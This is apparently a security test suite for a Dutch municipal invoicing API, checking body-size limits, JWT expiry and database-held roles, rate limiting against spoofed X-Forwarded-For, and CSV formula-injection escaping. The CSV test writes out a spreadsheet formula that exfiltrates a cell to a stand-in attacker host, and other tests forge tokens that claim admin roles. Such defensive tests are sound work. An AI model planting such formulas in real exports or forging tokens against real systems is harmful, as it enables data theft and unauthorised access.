// Findings of the probe from outside, each as a test: bodies that are too large or of the wrong
// kind are a client's mistake (413/415, problem+json or a Dutch page), tokens must expire and
// belong to a real user with the roles the database gives, the rate limit keys on the real
// client, and spreadsheet cells never start a formula.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import { SignJWT } from 'jose';
import pino from 'pino';
import { invoiceRunWorkflowId } from '../../contracts';
import { createServer } from '../../server/http';
import { createTestEnv, type TestEnv } from '../support/env';
import { currentPeriod, requestUpTo, storyTokens, type StoryTokens } from '../support/story';

let env: TestEnv;
let t: StoryTokens;
beforeAll(async () => {
  env = await createTestEnv();
  t = await storyTokens(env);
});
afterAll(() => env.close());

const raw = (path: string, init: RequestInit) => fetch(env.baseUrl + path, { redirect: 'manual', ...init });

describe('bodies', () => {
  test('a JSON body over the limit is 413 problem+json, also without signing in', async () => {
    const res = await raw('/api/requests', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: `{"x":"${'a'.repeat(1_100_000)}"}`,
    });
    expect(res.status).toBe(413);
    expect(res.headers.get('content-type')).toMatch(/problem\+json/);
    expect(await res.json()).toMatchObject({ status: 413, code: 'body_too_large', params: { limitBytes: 1_048_576 } });
  });
  test('an unknown Content-Encoding is 415', async () => {
    const res = await raw('/api/requests', {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'content-encoding': 'x-unknown', authorization: `Bearer ${t.requester}` },
      body: '{}',
    });
    expect(res.status).toBe(415);
    expect(await res.json()).toMatchObject({ code: 'unsupported_media_type' });
  });
  test('a key-figure CSV within the character limit but over the byte limit is 413, not 500', async () => {
    const csv = `Regio;Inwoners\n${'€'.repeat(400_000)}`; // 400,000 characters, 1.2 MB in UTF-8
    const res = await env.api('POST', '/api/contributions/key-figures/import', {
      token: await env.token('region-admin'),
      body: { name: 'inwoners', referenceDate: '2026-01-01', csv },
    });
    expect(res).toMatchObject({ status: 413, body: { code: 'body_too_large' } });
  });
  test('a login form of 110 kB or with 1,200 fields gets the Dutch "Te groot" page, not 500', async () => {
    for (const body of [`user=${'a'.repeat(110_000)}`, Array.from({ length: 1_200 }, (_, i) => `f${i}=1`).join('&')]) {
      const res = await raw('/inloggen', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body });
      expect(res.status).toBe(413);
      expect(await res.text()).toContain('<h1>Te groot</h1>');
    }
  });
  test('the pages take forms only: a JSON body to a form route is 415, even with a number where text is expected', async () => {
    for (const path of ['/bijdragen/fusies', '/inloggen', '/bijdragen/producten/DBC-LP-BASIS/begrotingen']) {
      const res = await raw(path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"into":5,"year":2026}' });
      expect([path, res.status]).toEqual([path, 415]);
      expect(await res.text()).toContain('Niet aangenomen');
    }
  });
  test('refused bodies are logged as a client’s mistake (warning), not as our error', async () => {
    const lines: { level: number; msg: string }[] = [];
    const logger = pino({ level: 'info' }, { write: (l: string) => void lines.push(JSON.parse(l)) });
    const { app } = createServer({ config: env.config, models: env.models, client: env.client, logger });
    const server = http.createServer(app).listen(0, '127.0.0.1');
    await new Promise((r) => server.once('listening', r));
    try {
      const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      await fetch(`${base}/api/requests`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"x":' });
      await fetch(`${base}/api/requests`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: `"${'a'.repeat(1_100_000)}"`,
      });
    } finally {
      await new Promise((r) => server.close(r));
    }
    expect(lines.filter((l) => l.level >= 50)).toEqual([]);
    expect(lines.filter((l) => l.level === 40).length).toBeGreaterThanOrEqual(2);
  });
});

describe('tokens', () => {
  const sign = (claims: Record<string, unknown>, exp: boolean) => {
    let jwt = new SignJWT(claims)
      .setProtectedHeader({ alg: 'HS256' })
      .setIssuer(env.config.JWT_ISSUER)
      .setAudience(env.config.JWT_AUDIENCE)
      .setIssuedAt();
    if (exp) jwt = jwt.setExpirationTime('1h');
    return jwt.sign(new TextEncoder().encode(env.config.JWT_SECRET!));
  };
  test('a token without exp is refused', async () => {
    const token = await sign({ sub: 'zwn-requester', org: 'ZWN', roles: ['requester'] }, false);
    expect((await env.api('GET', '/api/requests', { token })).status).toBe(401);
    expect((await env.api('GET', '/api/requests', { token: await sign({ sub: 'zwn-requester', org: 'ZWN' }, true) })).status).toBe(200);
  });
  test('a token of an unknown user, or for an organisation the user does not work for, opens nothing', async () => {
    const forged = await sign({ sub: 'nobody', org: 'DBC', roles: ['admin'] }, true);
    expect((await env.api('GET', '/api/agreements', { token: forged })).status).toBe(401);
    const elsewhere = await sign({ sub: 'zwn-requester', org: 'DOR', roles: ['coordinator'] }, true);
    expect((await env.api('GET', '/api/requests', { token: elsewhere })).status).toBe(401);
  });
  test('the roles come from the database: claimed roles count for nothing, a changed membership counts at once', async () => {
    const claimsAdmin = await sign({ sub: 'zwn-requester', org: 'ZWN', roles: ['admin', 'buyer_finance'] }, true);
    expect((await env.api('GET', '/api/invoices', { token: claimsAdmin })).status).toBe(403);
    await env.models.User.updateOne({ _id: 'pap-finance' }, { $set: { 'memberships.0.roles': [] } });
    try {
      expect((await env.api('GET', '/api/invoices', { token: await env.token('pap-requester') })).status).toBe(403);
      const papFinance = await sign({ sub: 'pap-finance', org: 'PAP' }, true);
      expect((await env.api('GET', '/api/invoices', { token: papFinance })).status).toBe(403);
    } finally {
      await env.models.User.updateOne({ _id: 'pap-finance' }, { $set: { 'memberships.0.roles': ['buyer_finance'] } });
    }
  });
});

test('the rate limit keys on the real client: X-Forwarded-For does not open a fresh bucket', async () => {
  const config = { ...env.config, RATE_LIMIT_PER_MINUTE: 5 };
  const { app } = createServer({ config, models: env.models, client: env.client, logger: pino({ level: 'silent' }) });
  const server = http.createServer(app).listen(0, '127.0.0.1');
  await new Promise((r) => server.once('listening', r));
  try {
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const statuses: number[] = [];
    for (let i = 0; i < 7; i++)
      statuses.push((await fetch(`${base}/api/services`, { headers: { 'x-forwarded-for': `203.0.113.${i}` } })).status);
    expect(statuses.slice(5)).toEqual([429, 429]);
    // The pages have a limit of their own.
    const pages: number[] = [];
    for (let i = 0; i < 7; i++) pages.push((await fetch(`${base}/inloggen`, { headers: { 'x-forwarded-for': `198.51.100.${i}` } })).status);
    expect(pages.slice(5)).toEqual([429, 429]);
  } finally {
    await new Promise((r) => server.close(r));
  }
});

test('spreadsheet cells that would start a formula are written as text in every CSV', async () => {
  const formula = '=HYPERLINK("https://evil.example/?d="&A2,"Open")';
  await env.models.Agreement.updateOne({ buyer: 'HIA', provider: 'DOR' }, { $set: { orderReference: formula } });
  const requester = await env.token('hia-requester');
  const id = await requestUpTo(env, t, 'awaiting_acceptance', { requester, title: '+SUM(1,2)' });
  await env.api('POST', `/api/requests/${id}/accept-result`, { token: requester });
  await env.api('POST', '/api/invoice-runs', { token: t.finance, body: { period: currentPeriod() } });
  await env.client.workflow.getHandle(invoiceRunWorkflowId('DOR', currentPeriod())).result();
  const res = await fetch(`${env.baseUrl}/api/exports/invoices.csv`, { headers: { authorization: `Bearer ${t.finance}` } });
  const text = await res.text();
  const rows = parse(text, { columns: true }) as Record<string, string>[];
  const row = rows.find((r) => r.afnemer === 'Gemeente Hendrik-Ido-Ambacht')!;
  expect(row.ordernummer).toBe(`'${formula}`);
  // Numbers stay numbers, also negative ones; nothing else starts with a formula character.
  expect(row.bedrag).toMatch(/^\d+\.\d{2}$/);
  for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
});
